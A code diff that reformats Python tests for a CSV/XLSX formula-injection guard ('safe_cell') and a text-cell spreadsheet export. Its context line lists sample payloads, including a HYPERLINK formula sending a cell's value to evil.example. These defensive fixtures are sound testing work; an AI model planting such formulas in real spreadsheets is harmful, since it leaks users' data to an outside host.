@@ -18,8 +18,20 @@ NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3", "@SUM(A1)",
 
 @pytest.mark.parametrize(
     ("value", "expected"),
-    [("=1+1", "'=1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("+1", "'+1"), ("\t=x", "'\t=x"),
-     ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-2, -2), (3.5, 3.5), (None, None)],
+    [
+        ("=1+1", "'=1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+1", "'+1"),
+        ("\t=x", "'\t=x"),
+        ("\rx", "'\rx"),
+        ("plain", "plain"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-2, -2),
+        (3.5, 3.5),
+        (None, None),
+    ],
 )
 def test_safe_cell(value, expected):
     assert safe_cell(value) == expected
@@ -45,7 +57,9 @@ def test_xlsx_export_writes_text_cells(staff_client):
     response = staff_client.get(reverse("parties:organisation_list") + "?_export=xlsx")
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.content)).active
-    cells = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)}
+    cells = {
+        sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)
+    }
     for name in NASTY:
         cell = cells["'" + name.replace("\r", "\n")]  # XML keeps no bare carriage return
         assert cell.data_type == "s" and cell.number_format == "@"
